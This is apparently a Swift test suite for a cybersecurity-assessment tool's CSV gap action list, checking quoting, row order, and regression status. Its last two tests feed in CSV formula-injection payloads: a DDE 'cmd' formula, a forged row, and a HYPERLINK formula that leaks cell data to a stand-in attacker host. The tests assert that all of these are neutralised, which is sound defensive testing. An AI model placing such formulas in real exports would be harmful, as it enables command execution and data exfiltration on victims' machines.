import FinCyberCore
import FinCyberReports
import Foundation
import Testing

/// The CSV action list, read back by Python's csv module: a parser that is not the project's writer.
@Suite struct GapActionListTests {
  /// Parses CSV from standard input with Python's csv module and prints the rows as JSON.
  static let parser = """
    import csv, io, json, sys
    data = sys.stdin.buffer.read()
    assert data.startswith(b"\\xef\\xbb\\xbf"), "no UTF-8 byte-order mark"
    text = data[3:].decode("utf-8")
    assert "\\r\\n" in text, "RFC 4180 wants CRLF line ends"
    print(json.dumps(list(csv.reader(io.StringIO(text, newline="")))))
    """

  static func rows(_ bytes: [UInt8]) throws -> [[String]] {
    let result = try ExternalTools.run("/usr/bin/env", ["python3", "-c", parser], input: bytes)
    #expect(result.status == 0, "\(result.output)")
    return try JSONDecoder().decode([[String]].self, from: Data(result.output.utf8))
  }

  @Test func commasQuotesAndLineBreaksSurviveAnotherParser() throws {
    let (input, _) = try GoldenReportTests.input("2026Q2")
    var assessment = input.assessment
    // A comment with every character CSV must quote.
    let tricky = "Vendor \"A, B\" said:\nline two, with comma\r\nand \"quotes\""
    assessment.baselineGaps[0].answer.comment = tricky
    let rows = try Self.rows(GapActionList.csv(assessment, language: .traditionalChinese))
    #expect(rows[0] == GapActionList.columns(assessment.questionnaire))
    #expect(rows[0] == [
      "statement_id", "domain", "factor", "component", "level", "gap_kind", "statement", "answer", "comment", "evidence",
      "source_measures", "csf", "owner", "due", "since_previous",
    ])
    #expect(rows[1][0] == "D1.GV.RM.B.1")
    #expect(rows[1][8] == tricky)
    #expect(rows.allSatisfy { $0.count == GapActionList.columns(assessment.questionnaire).count })
  }

  @Test func baselineGapsComeFirstAndEachStatementOnce() throws {
    let (input, _) = try GoldenReportTests.input("2026Q2")
    let rows = try Self.rows(GapActionList.csv(input.assessment, language: .english)).dropFirst()
    // The 2026Q2 fixture has one baseline gap (RM.B.1, also below the target) and target gaps
    // BO.Int.1, BO.A.1, ZT.Int.1, ZT.A.1; then both outcomes, below the advanced target.
    #expect(rows.map { $0[0] } == ["D1.GV.RM.B.1", "D1.GV.BO.Int.1", "D2.PR.ZT.Int.1", "D1.GV.BO.A.1", "D2.PR.ZT.A.1", "OI.D1.BOARD", "OI.D2.PATCH"])
    #expect(rows.map { $0[5] } == ["baseline", "target", "target", "target", "target", "outcome-below-target", "outcome-below-target"])
    #expect(rows.allSatisfy { $0[12].isEmpty && $0[13].isEmpty })
    #expect(rows.first?[6] == "D1.GV.RM practice one at baseline is in place.")
  }

  /// The outcome findings' rows: the indicator, its domain, the target level, the measured value
  /// against the needed one; one not measured has no value.
  @Test func outcomeFindingsAreRowsOfTheirOwn() throws {
    let (input, _) = try GoldenReportTests.input("2026Q2")
    var responses = input.assessment.responses
    responses.outcomes["OI.D1.BOARD"] = nil
    let assessment = Scorer.score(responses, against: ReportFixtures.mini)
    let rows = try Self.rows(GapActionList.csv(assessment, language: .english)).filter { $0[0].hasPrefix("OI.") }
    #expect(rows.map { Array($0[0...7]) } == [
      ["OI.D1.BOARD", "D1 Governance", "", "", "Advanced", "outcome-not-measured",
       "Board meetings with security on the agenda (not measured, needed ≥ 6 per year)", ""],
      ["OI.D2.PATCH", "D2 Protection", "", "", "Advanced", "outcome-below-target",
       "Days to patch critical vulnerabilities (measured 21.5 days, needed ≤ 3 days)", "21.5"],
    ])
  }

  /// With the previous quarter: RM.B.1 was met in 2026Q1 (a regression), the other gaps were gaps
  /// then too; nothing is said without a previous assessment.
  @Test func eachGapSaysWhatChangedSinceThePreviousAssessment() throws {
    let (input, _) = try GoldenReportTests.input("2026Q2")
    let (_, previous) = try GoldenReportTests.input("2026Q1")
    let last = GapActionList.columns(input.assessment.questionnaire).count - 1
    let rows = try Self.rows(GapActionList.csv(input.assessment, previous: previous, language: .english)).dropFirst()
    #expect(rows.filter { !$0[0].hasPrefix("OI.") }.map { [$0[0], $0[last]] } == [
      ["D1.GV.RM.B.1", "regression"], ["D1.GV.BO.Int.1", "still-open"], ["D2.PR.ZT.Int.1", "still-open"],
      ["D1.GV.BO.A.1", "still-open"], ["D2.PR.ZT.A.1", "still-open"],
    ])
    let without = try Self.rows(GapActionList.csv(input.assessment, language: .english)).dropFirst()
    #expect(without.allSatisfy { $0[last].isEmpty })
  }

  /// The red team's file: a comment with CR LF (from `&#13;&#10;`, which libxml2 always expands)
  /// and no comma or quote, carrying a formula and a forged row of its own.
  @Test func aCommentWithCRLFForgesNoRowAndItsFormulaIsText() throws {
    let (input, _) = try GoldenReportTests.input("2026Q2")
    var assessment = input.assessment
    let forged = "see plan\r\n=cmd|' /C calc'!A0\r\nP9.FAKE.ROW,,R2.2 R2.6,ID.RA-01,,"
    assessment.baselineGaps[0].answer.comment = "see plan\r\n=cmd|' /C calc'!A0\r\nP9.FAKE.ROW"
    assessment.baselineGaps[0].answer.evidence = forged
    let rows = try Self.rows(GapActionList.csv(assessment, language: .english))
    #expect(rows.count == 1 + assessment.baselineGaps.count + 4 + 2, "one row per gap and per outcome finding, none forged")
    #expect(rows.allSatisfy { $0.count == GapActionList.columns(assessment.questionnaire).count })
    #expect(!rows.dropFirst().contains { $0[0] != "" && !$0[0].hasPrefix("D") && !$0[0].hasPrefix("OI.") }, "every row starts with an id")
    let first = try #require(rows.dropFirst().first.flatMap { $0.count == GapActionList.columns(assessment.questionnaire).count ? $0 : nil })
    #expect(first[8] == "see plan\r\n=cmd|' /C calc'!A0\r\nP9.FAKE.ROW")
    #expect(first[9] == forged)
  }

  /// OWASP's leads, in every column a hostile file or questionnaire can fill.
  @Test func everyFormulaLeadIsNeutralisedInEveryColumn() throws {
    let (input, _) = try GoldenReportTests.input("2026Q2")
    var assessment = input.assessment
    let payloads = [
      "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1", "\r=1+1", "＝1+1",
    ]
    for (index, payload) in payloads.enumerated() {
      let gap = index % assessment.baselineGaps.count
      assessment.baselineGaps[gap].answer.comment = payload
      assessment.baselineGaps[gap].answer.evidence = payload
      assessment.baselineGaps[gap].statement.text = LocalizedText(["en": payload, "zh-TW": payload])
      let rows = try Self.rows(GapActionList.csv(assessment, language: .english))
      let row = try #require(rows.count > 1 + gap && rows[1 + gap].count == GapActionList.columns(assessment.questionnaire).count ? rows[1 + gap] : nil)
      for column in [6, 8, 9] {
        #expect(row[column] == "'" + payload, "column \(GapActionList.columns(assessment.questionnaire)[column])")
      }
    }
  }
}
